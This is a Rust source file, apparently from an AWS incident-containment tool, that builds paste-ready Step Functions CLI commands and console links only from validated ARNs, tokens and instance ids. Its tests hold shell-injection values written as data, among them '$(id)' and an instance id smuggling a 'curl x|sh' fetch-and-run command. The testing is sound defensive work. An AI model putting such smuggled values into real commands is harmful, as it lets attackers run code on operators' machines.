//! The execution that a message is about: its link to the console, and commands to paste.
//!
//! A command consists of checked values only. A value that fails its check never becomes part of one.

use containment::{check_account, check_instance_id, check_region};
use serde_json::{Value, json};
use verdict::{InstanceReport, LeftOut};

use crate::quoted::{Text, clean};

/// An execution of the state machine.
#[derive(Debug, Clone, Default, PartialEq)]
pub(crate) struct Execution {
    /// Its ARN; cleaned, but not checked.
    pub(crate) id: String,
    /// When it was started, if the event says so.
    pub(crate) start_time: Option<String>,
    home: Option<Home>,
}

/// The release state machine has the containment's name with this suffix. template.yaml rejects a name for the latter that
/// ends with it.
const RELEASE: &str = "-release";

/// The parts of the ARN, all of them checked.
#[derive(Debug, Clone, PartialEq)]
struct Home {
    partition: String,
    region: String,
    account: String,
    state_machine: String,
    /// The execution's own name, if it needs no quoting anywhere. The starter chooses it, in any script.
    name: Option<String>,
}

/// An instance, as an event names it. An id that fails its check is kept only to be quoted.
#[derive(Debug, Clone, Default, PartialEq)]
pub(crate) struct Instance {
    pub(crate) id: Option<String>,
    pub(crate) account: Option<String>,
    pub(crate) region: Option<String>,
    said: String,
}

impl Execution {
    /// From `{"Id": …, "StartTime": …}`.
    pub(crate) fn read(value: &Value) -> Execution {
        let start = value["StartTime"].as_str().map(|time| clean(time, 40));
        Execution::new(value["Id"].as_str().unwrap_or_default(), start)
    }

    /// From its ARN.
    pub(crate) fn new(arn: &str, start_time: Option<String>) -> Execution {
        Execution { id: clean(arn, 512), start_time, home: home(arn) }
    }

    /// Cordon's own account.
    pub(crate) fn account(&self) -> Option<&str> {
        self.home.as_ref().map(|home| home.account.as_str())
    }

    /// The state machine's ARN.
    pub(crate) fn state_machine_arn(&self) -> Option<String> {
        let Home { partition, region, account, state_machine, .. } = self.home.as_ref()?;
        Some(format!("arn:{partition}:states:{region}:{account}:stateMachine:{state_machine}"))
    }

    /// Whether it is an execution of the release state machine.
    pub(crate) fn is_release(&self) -> bool {
        self.home.as_ref().is_some_and(|home| home.state_machine.ends_with(RELEASE))
    }

    /// The execution's page in the console.
    pub(crate) fn console(&self) -> Option<String> {
        let Home { partition, region, account, state_machine, name } = self.home.as_ref()?;
        let console = match partition.as_str() {
            "aws" => "console.aws.amazon.com",
            "aws-cn" => "console.amazonaws.cn",
            "aws-us-gov" => "console.amazonaws-us-gov.com",
            _ => return None,
        };
        let arn = format!("arn:{partition}:states:{region}:{account}:execution:{state_machine}:{}", name.as_ref()?);
        Some(format!("https://{region}.{console}/states/home?region={region}#/v2/executions/details/{arn}"))
    }

    /// The command that approves.
    pub(crate) fn approve(&self, token: &str) -> Option<String> {
        let (region, token) = (&self.home.as_ref()?.region, checked_token(token)?);
        Some(format!(
            "aws stepfunctions send-task-success --region {region} --task-token '{token}' --task-output '{{\"Approved\":true}}'"
        ))
    }

    /// The command that refuses.
    pub(crate) fn refuse(&self, token: &str) -> Option<String> {
        let (region, token) = (&self.home.as_ref()?.region, checked_token(token)?);
        Some(format!(
            "aws stepfunctions send-task-failure --region {region} --task-token '{token}' --error NotApproved --cause 'why'"
        ))
    }

    /// The command that contains an instance by hand.
    pub(crate) fn contain(&self, instance: &Instance) -> Option<String> {
        self.start("", instance)
    }

    /// The command that releases an instance.
    pub(crate) fn release(&self, instance: &Instance) -> Option<String> {
        self.start(RELEASE, instance)
    }

    /// The command that starts the state machine with the containment's name and this suffix.
    fn start(&self, suffix: &str, instance: &Instance) -> Option<String> {
        let Home { partition, region, account: own, state_machine, .. } = self.home.as_ref()?;
        let contain = state_machine.strip_suffix(RELEASE).unwrap_or(state_machine);
        let arn = format!("arn:{partition}:states:{region}:{own}:stateMachine:{contain}{suffix}");
        let Instance { id: Some(id), account: Some(account), region: Some(of), .. } = instance else { return None };
        let input = format!("{{\"InstanceIds\":[\"{id}\"],\"Region\":\"{of}\",\"AccountId\":\"{account}\"}}");
        Some(format!("aws stepfunctions start-execution --region {region} --state-machine-arn {arn} --input '{input}'"))
    }
}

impl Instance {
    /// From an object with `InstanceId`, `AccountId` and `Region`, each of which may be missing.
    pub(crate) fn read(value: &Value) -> Instance {
        let text = |name: &str| value[name].as_str().unwrap_or_default();
        Instance::new(text("InstanceId"), text("AccountId"), text("Region"))
    }

    /// From untrusted text.
    pub(crate) fn new(id: &str, account: &str, region: &str) -> Instance {
        Instance {
            id: check_instance_id("InstanceId", id).is_ok().then(|| id.to_owned()),
            account: check_account("AccountId", account).is_ok().then(|| account.to_owned()),
            region: check_region("Region", region).is_ok().then(|| region.to_owned()),
            said: clean(id, 80),
        }
    }

    /// Whether there is an id, readable or not.
    pub(crate) fn is_named(&self) -> bool {
        !self.said.is_empty()
    }

    /// The id, or a phrase in place of an unreadable one.
    pub(crate) fn name(&self) -> &str {
        self.id.as_deref().unwrap_or("an instance with an unreadable id")
    }

    /// The id, Region and account in words; an id that fails its check as a quotation.
    pub(crate) fn place(&self) -> Text {
        let id = match &self.id {
            Some(id) => Text::ours(id),
            None if self.said.is_empty() => Text::ours("an instance without an id"),
            None => Text::ours("an invalid instance id, ").quoting(&self.said),
        };
        id.and(self.surroundings())
    }

    /// Region and account, to follow the id.
    pub(crate) fn surroundings(&self) -> String {
        match (&self.region, &self.account) {
            (Some(region), Some(account)) => format!(" in {region} (account {account})"),
            (Some(region), None) => format!(" in {region}"),
            (None, Some(account)) => format!(" (account {account})"),
            (None, None) => String::new(),
        }
    }

    /// The fields that passed their check; an id that did not, as it was given.
    pub(crate) fn to_json(&self) -> Value {
        let id = self.id.clone().or_else(|| self.is_named().then(|| self.said.clone()));
        let fields = [("InstanceId", &id), ("AccountId", &self.account), ("Region", &self.region)];
        fields.into_iter().filter_map(|(name, value)| Some((name.to_owned(), json!(value.as_ref()?)))).collect()
    }
}

impl From<&InstanceReport> for Instance {
    fn from(report: &InstanceReport) -> Instance {
        Instance::new(&report.instance_id, &report.account_id, &report.region)
    }
}

impl From<&LeftOut> for Instance {
    fn from(left: &LeftOut) -> Instance {
        let text = |text: &Option<String>| text.clone().unwrap_or_default();
        Instance::new(&text(&left.instance_id), &text(&left.account_id), &text(&left.region))
    }
}

/// The token, if it is safe between single quotes: Step Functions makes base64.
pub(crate) fn checked_token(token: &str) -> Option<&str> {
    let good = |b: u8| b.is_ascii_alphanumeric() || b"+/=_.:-".contains(&b);
    let starts_well = token.bytes().next().is_some_and(|b| b.is_ascii_alphanumeric());
    (starts_well && token.len() <= 2_048 && token.bytes().all(good)).then_some(token)
}

fn home(arn: &str) -> Option<Home> {
    let mut parts = arn.splitn(8, ':');
    let mut part = || parts.next();
    let ("arn", partition, "states") = (part()?, part()?, part()?) else { return None };
    let (region, account, "execution", state_machine) = (part()?, part()?, part()?, part()?) else { return None };
    let checked = partition.starts_with("aws")
        && partition.bytes().all(|b| b.is_ascii_lowercase() || b == b'-')
        && check_region("Region", region).is_ok()
        && check_account("AccountId", account).is_ok()
        && is_plain(state_machine);
    checked.then(|| Home {
        partition: partition.to_owned(),
        region: region.to_owned(),
        account: account.to_owned(),
        state_machine: state_machine.to_owned(),
        name: part().filter(|name| is_plain(name)).map(ToOwned::to_owned),
    })
}

fn is_plain(name: &str) -> bool {
    (1..=80).contains(&name.len()) && name.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b))
}

#[cfg(test)]
mod tests {
    use super::*;

    const ARN: &str = "arn:aws:states:ap-northeast-1:111122223333:execution:cordon-contain:run_1";

    fn instance() -> Instance {
        Instance::new("i-0123456789abcdef0", "444455556666", "eu-west-1")
    }

    #[test]
    fn commands_name_cordons_region_the_state_machine_and_the_instance() {
        let execution = Execution::new(ARN, None);
        assert_eq!(
            execution.approve("AAAA+/=").expect("a command"),
            "aws stepfunctions send-task-success --region ap-northeast-1 --task-token 'AAAA+/=' \
             --task-output '{\"Approved\":true}'"
        );
        assert_eq!(
            execution.refuse("AAAA").expect("a command"),
            "aws stepfunctions send-task-failure --region ap-northeast-1 --task-token 'AAAA' --error NotApproved --cause 'why'"
        );
        assert_eq!(
            execution.contain(&instance()).expect("a command"),
            "aws stepfunctions start-execution --region ap-northeast-1 --state-machine-arn \
             arn:aws:states:ap-northeast-1:111122223333:stateMachine:cordon-contain --input \
             '{\"InstanceIds\":[\"i-0123456789abcdef0\"],\"Region\":\"eu-west-1\",\"AccountId\":\"444455556666\"}'"
        );
    }

    #[test]
    fn each_workflow_finds_the_other_by_its_name() {
        let of = |machine: &str| {
            Execution::new(&format!("arn:aws:states:eu-west-1:111122223333:execution:{machine}:run"), None)
        };
        let (contain, release) = (of("cordon"), of("cordon-release"));
        assert_eq!((contain.is_release(), release.is_release()), (false, true));
        assert_eq!(contain.contain(&instance()), release.contain(&instance()));
        assert_eq!(contain.release(&instance()), release.release(&instance()));
        assert!(release.contain(&instance()).expect("a command").contains("stateMachine:cordon --input"));
        assert!(contain.release(&instance()).expect("a command").contains("stateMachine:cordon-release --input"));
    }

    #[test]
    fn nothing_that_a_shell_would_obey_gets_into_a_command() {
        let execution = Execution::new(ARN, None);
        let long = "A".repeat(2_049);
        for token in ["", "a'b", "a b", "$(id)", "a`id`", "a\nb", "a;b", "-v", "é", long.as_str()] {
            assert_eq!((execution.approve(token), execution.refuse(token)), (None, None), "{token:?}");
        }
        for hostile in ["i-0123abcd'; curl x|sh; '", "i-0123abcd\n", ""] {
            assert_eq!(execution.contain(&Instance { ..Instance::new(hostile, "444455556666", "eu-west-1") }), None);
        }
        assert_eq!(execution.contain(&Instance::new("i-0123abcd", "44445555666'", "eu-west-1")), None);
        assert_eq!(execution.contain(&Instance::new("i-0123abcd", "444455556666", "eu-west-1' ")), None);
        for arn in [
            "arn:aws:states:eu-west-1:111122223333:execution:a'b:run",
            "arn:aws:states:eu-west-1$(id):111122223333:execution:a:run",
            "arn:aws:states:eu-west-1:1:execution:a:run",
            "arn:evil:states:eu-west-1:111122223333:execution:a:run",
            "arn:aws:states:eu-west-1:111122223333:stateMachine:a:run",
            "",
        ] {
            let execution = Execution::new(arn, None);
            assert_eq!((execution.approve("AAAA"), execution.contain(&instance())), (None, None), "{arn:?}");
            assert_eq!(execution.release(&instance()), None, "{arn:?}");
            assert_eq!(execution.console(), None, "{arn:?}");
        }
    }

    #[test]
    fn the_link_is_to_the_partitions_own_console() {
        let link = |arn: &str| Execution::new(arn, None).console();
        assert_eq!(
            link(ARN).expect("a link"),
            format!(
                "https://ap-northeast-1.console.aws.amazon.com/states/home?region=ap-northeast-1#/v2/executions/details/{ARN}"
            )
        );
        let china = link("arn:aws-cn:states:cn-north-1:111122223333:execution:c:r").expect("a link");
        assert!(
            china.starts_with("https://cn-north-1.console.amazonaws.cn/states/home?region=cn-north-1#/"),
            "{china}"
        );
        let gov = link("arn:aws-us-gov:states:us-gov-west-1:111122223333:execution:c:r").expect("a link");
        assert!(gov.starts_with("https://us-gov-west-1.console.amazonaws-us-gov.com/states/home?"), "{gov}");
        assert_eq!(link("arn:aws-iso:states:us-iso-east-1:111122223333:execution:c:r"), None);
    }

    #[test]
    fn an_execution_whose_name_needs_quoting_has_commands_but_no_link() {
        let execution = Execution::new("arn:aws:states:eu-west-1:111122223333:execution:cordon:夜の'対応", None);
        assert_eq!(execution.console(), None);
        assert!(!execution.approve("AAAA").expect("a command").contains("対応"));
    }
}
